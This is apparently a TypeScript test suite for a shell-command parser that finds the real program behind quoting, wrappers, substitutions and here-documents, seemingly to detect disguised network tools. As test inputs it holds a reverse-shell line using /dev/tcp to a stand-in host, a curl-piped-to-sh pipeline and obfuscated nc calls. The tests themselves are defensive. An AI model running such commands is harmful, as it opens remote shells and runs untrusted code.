import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { invocationsOf, pipelinesOf, shellCommandString } from "./command-position.ts";
import { parseShell } from "./shell-syntax.ts";

const programs = (command: string) => invocationsOf(command).map((i) => i.program);

describe("the shell reader", () => {
  it("removes quotes and escapes the way a shell does", () => {
    const [cmd] = parseShell(`echo 'a b' "c \\"d\\" \\$e" f\\ g $'h\\ni'`).pipelines[0]?.stages ?? [];
    expect(cmd?.kind === "simple" && cmd.words.map((w) => w.text)).toEqual(["echo", "a b", 'c "d" $e', "f g", "h\ni"]);
  });

  it("splits on ; & && || | and newlines, and keeps pipelines together", () => {
    const { pipelines } = pipelinesOf("a | b && c; d & e || f\ng |& h");
    expect(pipelines.map((stages) => stages.map((s) => s.map((i) => i.program).join("+")))).toEqual([["a", "b"], ["c"], ["d"], ["e"], ["f"], ["g", "h"]]);
  });

  it("reads redirections with their targets, including fd forms", () => {
    const [stage] = parseShell("bash -i >& /dev/tcp/h/1 0>&1 2>/dev/null <in").pipelines[0]?.stages ?? [];
    expect(stage?.redirects.map((r) => [r.op, r.target.text])).toEqual([
      [">&", "/dev/tcp/h/1"],
      [">&", "1"],
      [">", "/dev/null"],
      ["<", "in"],
    ]);
  });

  it("reads here-document bodies, with <<- stripping tabs, and resumes after them", () => {
    const script = parseShell("cat <<'EOF' > out\nline nc\n  EOF not yet\nEOF\necho after\ncat <<-X\n\tindented\n\tX\n");
    const first = script.pipelines[0]?.stages[0];
    expect(first?.redirects.find((r) => r.op === "<<")?.heredoc).toBe("line nc\n  EOF not yet");
    expect(script.pipelines.map((p) => (p.stages[0]?.kind === "simple" ? p.stages[0].words[0]?.text : ""))).toEqual(["cat", "echo", "cat"]);
    expect(script.pipelines[2]?.stages[0]?.redirects[0]?.heredoc).toBe("indented");
  });

  it("parses command substitutions, backticks and process substitutions as scripts", () => {
    expect(programs('echo $(id -u) `whoami` <(date) "$(hostname)"')).toEqual(["echo", "id", "whoami", "date", "hostname"]);
    expect(programs("echo $((1 + 2)) ${HOME}")).toEqual(["echo"]);
  });

  it("a here-document inside a substitution inside quotes is text unless a shell reads it", () => {
    expect(programs("git commit -m \"$(cat <<'EOF'\nuse nc (it's fine)\nEOF\n)\"")).toEqual(["git", "cat"]);
    expect(programs("bash <<'EOF'\nnc -z h 1\nEOF")).toEqual(["bash", "nc"]);
    expect(programs("sh -s <<< 'nc h 1'")).toEqual(["sh", "nc"]);
  });

  it("finds the program behind assignments, reserved words and wrappers", () => {
    expect(programs("FOO=1 BAR=2 nc h")).toEqual(["nc"]);
    expect(programs("if ! nc -z h 1; then echo down; fi")).toEqual(["nc", "echo"]);
    expect(programs("sudo -u root -E nc h")).toEqual(["nc"]);
    expect(programs("env -i PATH=/x nohup nice -n 5 timeout -s KILL 10 stdbuf -oL nc h")).toEqual(["nc"]);
    expect(programs("docker run --rm -it -v /a:/b --name x alpine:3 nc h")).toEqual(["nc"]);
    expect(programs("docker exec -u root app nc h")).toEqual(["nc"]);
    expect(programs("docker ps")).toEqual(["docker"]);
    expect(programs("kubectl exec -it pod -- nc h")).toEqual(["nc"]);
    expect(programs("command -v nc; command nc h")).toEqual(["nc"]);
    expect(programs("for p in nc ncat; do echo $p; done")).toEqual(["echo"]);
  });

  it("names a program by its file name, however it is spelled", () => {
    expect(programs("/usr/bin/nc h; bin/nc h; $HOME/nc h; ./nc h; n\\c h; 'n'c h; $(which nc) h")).toEqual([...Array(7).fill("nc"), "which"]);
    expect(programs("N=nc; $N h; ${N} h")).toEqual(["nc", "nc"]);
  });

  it("reads a shell's -c script, through docker exec", () => {
    expect(programs('docker exec -i app bash -c "rsync -a /src /dst"')).toEqual(["bash", "rsync"]);
    expect(programs("sh -lc 'a | b'")).toEqual(["sh", "a", "b"]);
    const [inv] = invocationsOf("bash -x -c 'echo hi' name");
    expect(inv && shellCommandString(inv)).toBe("echo hi");
  });

  it("a group's programs belong to its pipeline stage", () => {
    const { pipelines } = pipelinesOf("(curl x; echo) | sh");
    expect(pipelines[0]?.map((s) => s.map((i) => i.program))).toEqual([["curl", "echo"], ["sh"]]);
  });

  it("never throws on malformed input, and flags nesting too deep to follow", () => {
    for (const text of ["echo 'unclosed", 'echo "unclosed $(', "cat <<EOF", ")))", "a |", "$(", "`", "<<", "2>", "echo (", "a((b"]) {
      expect(() => pipelinesOf(text), text).not.toThrow();
    }
    const deep = `${"$(".repeat(200)}nc h${")".repeat(200)}`;
    expect(pipelinesOf(deep).truncated).toBe(true);
    expect(pipelinesOf("$($($(nc h)))").truncated).toBe(false);
  });
});

describe("the shell reader on arbitrary text", () => {
  it("always finishes, whatever the mix of metacharacters", () => {
    const piece = fc.constantFrom(..."ab ;&|<>()$`'\"\\\n#{}=-c0".split(""), "$(", "<<", "<<-", "EOF", "bash -c ", "sudo ", "|&", "&>", ">&");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (parts) => {
        expect(() => pipelinesOf(parts.join(""))).not.toThrow();
      }),
      { numRuns: 2000 },
    );
  });
});
